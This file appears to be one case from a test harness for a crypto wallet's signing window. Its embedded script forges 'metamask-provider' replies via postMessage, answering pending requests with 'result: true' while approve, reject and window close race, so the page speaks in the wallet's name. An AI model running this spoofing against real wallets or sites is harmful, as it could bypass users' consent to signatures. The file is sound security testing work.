import type { Attack } from '../Attack.ts';

/** Two alike wait; one Continue, one Reject and the closing of the window race, and the page answers in the wallet's name. */
export const attack: Attack = {
  entry: 'provider.request',
  mechanism: 'replies racing with the closing of the window',
  discovers: true,
  alone: true,
  allowed: 1,
  arrivals: 2,
  script: `
const wallet = await kit.wallet();
const channel = [];
addEventListener('message', ({ data }) => { const id = data?.data?.data?.id; if (id !== undefined) channel.push(id); }, true);
for (let count = 0; count < 3; count += 1) wallet.request(kit.sign()).then(() => wallet.request(kit.sign()), () => wallet.request(kit.sign())).catch(() => undefined);
for (let round = 0; round < 40; round += 1) {
  for (const id of channel.splice(0)) window.postMessage({ target: 'metamask-inpage', data: { name: 'metamask-provider', data: { jsonrpc: '2.0', id, result: true } } }, location.origin);
  await kit.sleep(50);
}
`,
  drive: async ({ approve, reject, marker, outside }) => {
    await new Promise((resolve) => setTimeout(resolve, 1200));
    await Promise.all(
      [approve(marker), reject(marker), outside.closeReview()].map((one) => one.catch(() => undefined)),
    );
  },
};
